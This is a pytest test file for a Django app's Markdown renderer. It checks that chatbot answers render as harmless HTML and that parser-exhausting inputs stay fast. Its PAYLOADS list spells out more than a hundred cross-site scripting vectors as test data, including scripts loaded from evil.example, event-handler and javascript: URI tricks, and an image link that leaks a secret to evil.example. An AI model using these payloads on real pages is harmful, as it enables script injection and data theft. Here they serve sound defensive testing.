"""What an answer's Markdown becomes on a stranger's page: HTML that shows it and does nothing."""

import os
import re
import subprocess
import sys
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from django.urls import reverse
from lxml import etree, html

from logs.models import Conversation, Message
from puffer import markdown
from puffer.markdown import render

ROOT = Path(__file__).parent.parent.parent
ELEMENTS = {
    *("p", "br", "hr", "strong", "em", "s", "code", "pre", "blockquote", "ul", "ol", "li", "a"),
    *("h1", "h2", "h3", "h4", "h5", "h6", "table", "thead", "tbody", "tr", "th", "td"),
}
LINK = ' target="_blank" rel="nofollow noopener noreferrer"'

# What it shows


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", ""),
        ("Hello", "<p>Hello</p>"),
        ("a\nb\n\nc", "<p>a<br>\nb</p>\n<p>c</p>"),
        ("**a** *b* ~~c~~ `d <b>`", "<p><strong>a</strong> <em>b</em> <s>c</s> <code>d &lt;b&gt;</code></p>"),
        ("# a\n### b", "<h1>a</h1>\n<h3>b</h3>"),
        ("- a\n  - b", "<ul>\n<li>a\n<ul>\n<li>b</li>\n</ul>\n</li>\n</ul>"),
        ("3. a\n4. b", '<ol start="3">\n<li>a</li>\n<li>b</li>\n</ol>'),
        ("> a", "<blockquote>\n<p>a</p>\n</blockquote>"),
        ("```python\nif a < b:\n```", "<pre><code>if a &lt; b:\n</code></pre>"),
        ("---", "<hr>"),
        (
            "|a|b|\n|-|-:|\n|1|**2**|",
            "<table>\n<thead>\n<tr>\n<th>a</th>\n<th>b</th>\n</tr>\n</thead>\n<tbody>\n<tr>\n<td>1</td>\n"
            "<td><strong>2</strong></td>\n</tr>\n</tbody>\n</table>",
        ),
        ("[a](https://b.example/?c=1&d=2)", f'<p><a href="https://b.example/?c=1&amp;d=2"{LINK}>a</a></p>'),
        ("[a](http://b.example 'title')", f'<p><a href="http://b.example"{LINK}>a</a></p>'),
        ("[a](mailto:b@c.example)", f'<p><a href="mailto:b@c.example"{LINK}>a</a></p>'),
        ("<https://b.example>", f'<p><a href="https://b.example"{LINK}>https://b.example</a></p>'),
        ("<b@c.example>", f'<p><a href="mailto:b@c.example"{LINK}>b@c.example</a></p>'),
        ("![a **picture** <x>](https://b.example/c.png) b", "<p>a picture &lt;x&gt; b</p>"),
        ("[![a](https://b.example/c.png)](https://d.example)", f'<p><a href="https://d.example"{LINK}>a</a></p>'),
        ("a\x00b", "<p>ab</p>"),
        ("half \ud83d of a pair", "<p>half ? of a pair</p>"),
        ("[a]\n\n[a]: https://b.example", f'<p>[a]</p>\n<p>[a]: <a href="https://b.example"{LINK}>https://b.example</a></p>'),
        ("3~5 days, 5~7 days, \\~a\\~", "<p>3~5 days, 5~7 days, ~a~</p>"),  # one tilde strikes nothing out
        ("`[a]: ~b~ <c>` \\<b>", "<p><code>[a]: ~b~ &lt;c&gt;</code> &lt;b&gt;</p>"),
        ("[a **b**](/c) [d](e.html)", "<p>[a <strong>b</strong>](/c) [d](e.html)</p>"),
        ("<div>\n**a**\n</div>", "<p>&lt;div&gt;<br>\n<strong>a</strong><br>\n&lt;/div&gt;</p>"),
        ("_a_<br>b", "<p><em>a</em>&lt;br&gt;b</p>"),
        ("[a](http://[::1]:80/~b)", f'<p><a href="http://[::1]:80/~b"{LINK}>a</a></p>'),
        ("[a](<https://b.example/c d>)", f'<p><a href="https://b.example/c%20d"{LINK}>a</a></p>'),
    ],
)  # fmt: skip
def test_markdown_is_shown(text, expected):
    assert render(text).strip() == expected


@pytest.mark.parametrize(
    ("text", "url", "rest"),
    [
        ("See https://a.example/b_c_d.", "https://a.example/b_c_d", "."),
        ("(see https://a.example)", "https://a.example", ")"),
        ("https://a.example/b_(c), d", "https://a.example/b_(c)", ", d"),
        ("(https://a.example/b_(c)).", "https://a.example/b_(c)", ")."),
        ("http://a.example/?b=1&c=2#d!", "http://a.example/?b=1&c=2#d", "!"),
        ("**https://a.example**", "https://a.example", ""),
        ("HTTPS://A.example?!", "HTTPS://A.example", "?!"),
        ("- https://a.example", "https://a.example", ""),
    ],
)
def test_a_url_in_the_text_is_a_link(text, url, rest):
    (link,) = html.fromstring(f"<div>{render(text)}</div>").iter("a")
    assert link.text == url
    assert link.get("href").lower() == url.lower()
    assert (link.tail or "").strip() == rest.strip()


@pytest.mark.parametrize(
    "text",
    ["`https://a.example`", "    https://a.example", "ahttps://a.example", "https://", "http://...", "ftp://a.example"],
)
def test_what_is_no_url_or_is_code_is_no_link(text):
    assert "<a" not in render(text)


def test_a_url_within_a_link_is_no_second_one():
    assert render("[see https://a.example now](https://b.example)").count("<a ") == 1


# What it must not do

PAYLOADS = [
    # Raw HTML
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script/src=data:,alert(1)>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\n>alert(1)</script\n>",
    "<script>/*\n\n*/alert(1)</script>",
    "<script x=\">\" src=//evil.example></script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=\"alert(1)\"",
    "<img src=\"x\" onerror='alert(1)' />",
    "<img/src/onerror=alert(1)>",
    "<img src=x:alert(alt) onerror=eval(src) alt=1>",
    "<img \"\"\"><script>alert(1)</script>\">",
    "<img src=`x`onerror=alert(1)>",
    "<image src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)//",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1) />",
    "<svg><a xlink:href=\"javascript:alert(1)\"><text x=1 y=20>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=onload to=alert(1)>",
    "<svg><foreignObject><iframe onload=alert(1)></foreignObject></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<math><a xlink:href=javascript:alert(1)>x</a></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<body onload=alert(1)>",
    "<body background=javascript:alert(1)>",
    "<html onmouseover=alert(1)>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit></form>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input onfocus=alert(1) autofocus>",
    "<input type=image src=x onerror=alert(1)>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<keygen onfocus=alert(1) autofocus>",
    "<button onclick=alert(1)>x</button>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<base href=javascript:alert(1)//>",
    "<link rel=stylesheet href=javascript:alert(1)>",
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style=\"background:url(javascript:alert(1))\">x</div>",
    "<div style=\"width:expression(alert(1))\">x</div>",
    "<p onclick=alert(1)>x</p>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a onmouseover=alert(1)>x</a>",
    "<a href=https://a.example target=_self rel=opener onclick=alert(1)>x</a>",
    "<table background=javascript:alert(1)><td>x</td></table>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<noembed><img title=\"</noembed><img src=x onerror=alert(1)>\"></noembed>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<frameset onload=alert(1)>",
    "<isindex action=javascript:alert(1) type=image>",
    "<x onclick=alert(1) tabindex=1>x</x>",
    "<custom-element onconnected=alert(1)>",
    "<!-- --><script>alert(1)</script><!-- -->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE html><script>alert(1)</script>",
    "</p><script>alert(1)</script>",
    "</div></body></html><script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<img src=x on\x00error=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img\tsrc=x\tonerror=alert(1)>",
    "＜script＞alert(1)＜/script＞",
    "\u2028<script>alert(1)</script>\u2029",
    # Entities
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#0;&#x0;<&#115;cript>",
    # Links
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript://a.example/%0aalert(1))",
    "[x]( javascript:alert(1))",
    "[x](\x01javascript:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](javascript&colon;alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](javascript&#x3a;alert(1))",
    "[x](&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1))",
    "[x](&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1))",
    "[x](java&Tab;script&colon;alert(1))",
    "[x](java&NewLine;script:alert(1))",
    "[x](java&#10;script:alert(1))",
    "[x](java\\script:alert(1))",
    "[x](javascript\\:alert(1))",
    "[x](javascript%3Aalert(1))",
    "[x](%6A%61%76%61script:alert(1))",
    "[x](\u00a0javascript:alert(1))",
    "[x](\ufeffjavascript:alert(1))",
    "[x](ｊavascript:alert(1))",
    "[x](javaſcript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](VBScript:msgbox(1))",
    "[x](livescript:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](<data:text/html,<script>alert(1)</script>>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](data:image/svg+xml;base64,PHN2Zy8+)",
    "[x](data:image/png;base64,iVBORw0KGgo=)",
    "[x](blob:https://a.example/1)",
    "[x](file:///etc/passwd)",
    "[x](filesystem:https://a.example/x)",
    "[x](view-source:javascript:alert(1))",
    "[x](feed:javascript:alert(1))",
    "[x](jar:javascript:alert(1)!/)",
    "[x](intent://a#Intent;scheme=javascript;end)",
    "[x](//evil.example)",
    "[x](/relative)",
    "[x](?query)",
    "[x](#fragment)",
    "[x](\\\\evil.example)",
    "[x](https:javascript:alert(1))",
    "[x](https://a.example\" onmouseover=\"alert(1))",
    "[x](https://a.example' onmouseover='alert(1))",
    "[x](https://a.example \"title\" onmouseover=alert(1))",
    "[x](https://a.example '\" onmouseover=alert(1) x=\"')",
    "[x](https://a.example/`onmouseover=alert(1)`)",
    "[x](<https://a.example/\" onmouseover=alert(1) x=\">)",
    "[x](https://a.example/<script>alert(1)</script>)",
    "[x](mailto:a@b.example?body=<script>alert(1)</script>)",
    "[x](mailto:\"onmouseover=alert(1)\"@b.example)",
    "[<script>alert(1)</script>](https://a.example)",
    "[<img src=x onerror=alert(1)>](https://a.example)",
    "[x](https://[::1]/\"onmouseover=alert(1))",
    "[x](https://[bad/)",
    "[x]\n\n[x]: javascript:alert(1)",
    "[x]\n\n[x]: https://a.example \"t\" onmouseover=alert(1)",
    "[x][y]\n\n[y]: <javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n![a]\n\n[a][]",
    # Links without brackets
    "<javascript:alert(1)>",
    "<JAVASCRIPT:alert(1)>",
    "<vbscript:msgbox(1)>",
    "<data:text/html,x>",
    "<https://a.example/\"onmouseover=alert(1)>",
    "<https://a.example/'onmouseover='alert(1)>",
    "<a@b.example\"onmouseover=alert(1)>",
    "https://a.example/\"onmouseover=\"alert(1)",
    "https://a.example/'onmouseover='alert(1)",
    "https://a.example/<script>alert(1)</script>",
    "https://a.example/&quot;onmouseover=alert(1)",
    "https://a.example/&#34;&#62;&#60;script&#62;alert(1)",
    "https://javascript:alert(1)@a.example",
    "javascript:https://a.example/%0aalert(1)",
    "http://a.example/\u202egnp.exe",
    # Images
    "![x](javascript:alert(1))",
    "![x](https://evil.example/?q=secret)",
    "![x\" onerror=\"alert(1)](https://a.example/x.png)",
    "![x](https://a.example/x.png \"t\" onerror=alert(1))",
    "![<img src=x onerror=alert(1)>](https://a.example/x.png)",
    "![x](data:image/svg+xml,<svg onload=alert(1)>)",
    "![![x](https://a.example/)](https://b.example/)",
    "[![x](javascript:alert(1))](javascript:alert(1))",
    "![x][y]\n\n[y]: https://evil.example/x.png",
    # Code
    "`<script>alert(1)</script>`",
    "```<script>alert(1)</script>\nx\n```",
    "```\" onmouseover=\"alert(1)\nx\n```",
    "```html onload=alert(1)\n<script>alert(1)</script>\n```",
    "~~~'><img src=x onerror=alert(1)>\nx\n~~~",
    "    <script>alert(1)</script>",
    "`</code><script>alert(1)</script>`",
    # Blocks around it
    "> <script>alert(1)</script>",
    "- <img src=x onerror=alert(1)>",
    "1. [x](javascript:alert(1))",
    "# <svg onload=alert(1)>",
    "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "|a|\n|:-\" onmouseover=\"alert(1):|\n|b|",
    "**<script>alert(1)</script>**",
    "~~<svg onload=alert(1)>~~",
    "<div\n\n**x**\n\nonclick=alert(1)>",
    "*<a href=\"*\" onclick=\"alert(1)*\">x</a>",
    "<a href=\"`\"><img src=x onerror=alert(1)>`\">x</a>",
    "\\<script>alert(1)\\</script>",
    "**a<b onclick=alert(1)>**",
    "999999999. <script>alert(1)</script>",
]  # fmt: skip


def test_there_are_enough_payloads():
    assert len(set(PAYLOADS)) == len(PAYLOADS) >= 120


def assert_harmless(rendered):
    """By what a parser of HTML finds in it, in a place where neither comments nor instructions are dropped."""
    root = etree.fromstring(f"<div>{rendered}</div>", html.HTMLParser(remove_comments=False, remove_pis=False))
    div = root.find("body/div")
    assert [child.tag for child in root] == ["body"]
    assert len(root.find("body")) == 1  # nothing has closed the div
    for element in div.iterdescendants():
        assert element.tag in ELEMENTS, etree.tostring(element)
        attributes = dict(element.attrib)
        if element.tag == "a":
            assert attributes.pop("target") == "_blank"
            assert attributes.pop("rel") == "nofollow noopener noreferrer"
            href = attributes.pop("href", "https:")
            assert re.match(r"https?:|mailto:", href, re.IGNORECASE), href
            assert not re.search(r"[\x00-\x20<>\"`]", href), href
        elif element.tag == "ol":
            assert attributes.pop("start", "1").isdigit()
        assert not attributes, etree.tostring(element)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_nothing_in_an_answer_can_act(payload):
    for text in (payload, f"Before **that\n\n{payload}\n\nand** after", f"> - {payload}", f"|a|\n|-|\n|{payload}|"):
        assert_harmless(render(text))
    assert_harmless(markdown.as_written(payload))


@pytest.mark.parametrize("html_text", ["<b>x</b>", "<script>alert(1)</script>", "<img src=x>", "<!-- x -->", "</p>"])
def test_html_in_an_answer_is_shown_as_it_is_written(html_text):
    assert html.fromstring(render(f"a {html_text} b")).text_content().strip() == f"a {html_text} b"


def test_an_image_leads_nowhere():
    rendered = render("![x](https://evil.example/?q=secret) ![y][z]\n\n[z]: <https://evil.example/p.png>")
    assert "src" not in rendered
    assert [urlsplit(link.get("href")).path for link in html.fromstring(rendered).iter("a")] == ["/p.png"]  # bare URL


# What takes too much work

PATTERNS = [
    *(">", "> ", "> a\n", "> - ", "> 1. - ", "- ", "- a\n", "1. ", "1. a\n", "-\n\n", "- a\n* b\n+ c\n", "-\ta\n"),
    *(
        "[",
        "]",
        "[]",
        "[a](",
        "[a](b",
        "[a](<b",
        '[a](b "',
        "![",
        "[[x]",
        "[a](b)",
        "[a][",
        "[a]: b\n",
        "[a\n",
        "[^a\n",
    ),
    *("*", "* a", "*a ", "**a ", "***a ", "a**b", "*a_ ", "_", "~~", "~~a ", "*_**__~~a", "*a **a ", "*a*", "**a** "),
    *("`", "`a", "``a`", "```\n", "~~~\n", "<", "<a ", "<http:", "<http://a.b> ", "<a@b.c>", "<a@b.", "<!--", "<>"),
    *("&", "&amp;", "&#65;", "&#", "&" + 31 * "a", "\\", "\\\n", "  \n", " ", "\t", "\n", "a\n\n", "    a\n", "©"),
    *("#", "# a\n", "a\n==\n", "---\n", "- - ", "|", "|-|\n", "a|b\n", "|a|b|\n|-|-|\n\n", "\\|", "|`b|`\n"),
    *("http://a.b ", "https://", "http://a.b/((", "http://a.b/).,;", "://", "[a](%ff)", "[a](http://é.b)"),
    *("\0", "\r", "\u202e", "\"'", "[*`<&\\", "*[a*](b)*", "[`a](b)`", "|*a|[b|`c\n", "![[a](b)](c)", "](", "]([\n"),
]


def hostile(size):
    """Return texts of about `size` characters by what they are full of."""
    part, root = size / 100_000, (size / 100_000) ** 0.5
    wide, long = int(1000 * root), int(1000 * part)
    table = "|" + "a|" * wide + "\n|" + "-|" * wide + "\n"
    return {
        **{pattern.replace("\n", "/"): (pattern * (size // len(pattern) + 1))[:size] for pattern in PATTERNS},
        "quotes that grow": "".join(">" * depth + "a\n" for depth in range(int(440 * root))),
        "lists that grow": "".join("  " * depth + "- a\n" for depth in range(int(310 * root))),
        "lists that grow by tabs": "".join("\t" * 8 * depth + "- " * 16 + "a\n" for depth in range(int(50 * root)))
        + "b\n" * 35 * long,
        "a deep quote and lazy lines": ">" * long + " a\n" + "b\n" * 49 * long,
        "a deep list and blank lines": "- " * 25 * long + "a\n" + "\n" * 50 * long,
        "49 quotes and lazy lines": ">" * 49 + " a\n" + "b\n" * 49 * long,
        "nested brackets": "[" * (size // 2) + "]" * (size // 2),
        "nested links": "[" * 20 * long + "a" + "](b)" * 20 * long,
        "nested images": "![" * 15 * long + "a" + "](b)" * 15 * long,
        "nested emphasis": "*a **b " * 7 * long + "b** a*" * 7 * long,
        "backticks that grow": "".join("`" * length + " " for length in range(1, int(445 * root))),
        "backticks that shrink": "".join("`" * length + " " for length in range(int(445 * root), 1, -1)),
        "10,000 cells": "|a|b|c|d|\n|-|-|-|-|\n" + "|1|2|3|4|\n" * 10 * long,
        "a wide table": table + ("|" + "b|" * wide + "\n") * int(45 * root),
        "a wide table of short rows": table + "b\n" * 46 * long,
        "a reference used often": "[a]: " + "b" * long + "\n\n" + "[a] " * 24 * long,
        "an open title": '[a](b "' + "a" * size,
        "an open destination": "[a](" + "(" * size,
        "a long host": "[a](http://" + "é." * 30 * long + ")",
        "a long URL": "http://a/" + "(" * 45 * long + ")" * 45 * long,
        "a long query": "[a](http://a/?" + "&" * size + ")",
        "spaces within": "a" + " " * size + "b",
    }


RENDER_ALL = """
import time
import django
django.setup()
from puffer.markdown import render
from tests.puffer.test_markdown import assert_harmless, hostile

def seconds(text):
    started = time.process_time()
    rendered = render(text)
    taken = time.process_time() - started
    assert len(rendered) < 16 * len(text), name
    return taken, rendered

small, large = hostile(10_000), hostile(100_000)
for name in small:
    before, rendered = seconds(small[name])
    assert_harmless(rendered)
    after, _ = seconds(large[name])
    assert after < 2, (name, after)  # 0.3 seconds where nothing else runs
    assert after < 40 * before + 0.2, (name, before, after)
print(len(small))
"""


@pytest.mark.slow
def test_time_grows_with_a_hostile_text_and_its_html_stays_small():
    run = subprocess.run(
        [sys.executable, "-c", RENDER_ALL],
        cwd=ROOT, env=os.environ | {"DJANGO_SETTINGS_MODULE": "tests.settings"},
        capture_output=True, text=True, timeout=600,
    )  # fmt: skip
    assert run.returncode == 0, run.stderr
    assert int(run.stdout) > 100


@pytest.mark.parametrize(
    "text",
    [
        "> " * 30 + "deep",
        "line\r" + ">" * 10_000 + "deep\n" + "line\n" * 10_000,
        "".join("  " * depth + "- deep\n" for depth in range(30)),
        "*a **b " * 20 + "b** a*" * 20,
        "|" + "a|" * 300 + "\n|" + "-|" * 300 + "\n" + "b\n" * 4000,  # of which the parser makes 260,000 cells
    ],
)
def test_what_nests_or_grows_too_much_is_shown_as_it_is_written_and_whole(text):
    shown = html.fromstring(f"<div>{render(text)}</div>").text_content()
    assert shown.split() == text.split()


@pytest.mark.parametrize("text", ["a & b © c\n" * 2000, "`" + "&" * 10_000 + "`", "https://a.example/?" + "&" * 7000])
def test_a_long_text_is_whole(text):
    shown = html.fromstring(f"<div>{render(text)}</div>").text_content()
    assert shown.split() == text.replace("`", "").split()


def test_what_is_ordinary_is_rendered_however_long_it_is():
    paragraph = "Some **words** of an answer, with [a link](https://a.example) in them, and more words after it. " * 3
    listed = "- one point\n- another `point`\n\n"
    text = f"## Title\n\n{paragraph}\n\n{listed}" * 150
    assert len(text) > 45_000
    rendered = render(text)
    assert (rendered.count("<h2>"), rendered.count("<li>"), rendered.count("<a ")) == (150, 300, 450)


def test_nesting_that_people_use_is_rendered():
    assert render("".join("  " * depth + "- a\n" for depth in range(7))).count("<li>") == 7
    assert render("> " * 10 + "a").count("<blockquote>") == 10


@pytest.mark.django_db
def test_a_conversation_of_heavy_answers_is_rendered_whole(admin_client):
    conversation = Conversation.objects.create(message_count=120)
    Message.objects.bulk_create(
        Message(conversation=conversation, role="bot", content="- a\n" * 1000) for _ in range(120)
    )
    page = admin_client.get(reverse("admin:logs_conversation_change", args=[conversation.pk]))
    assert page.text.count("<li>a</li>") == 120 * 1000
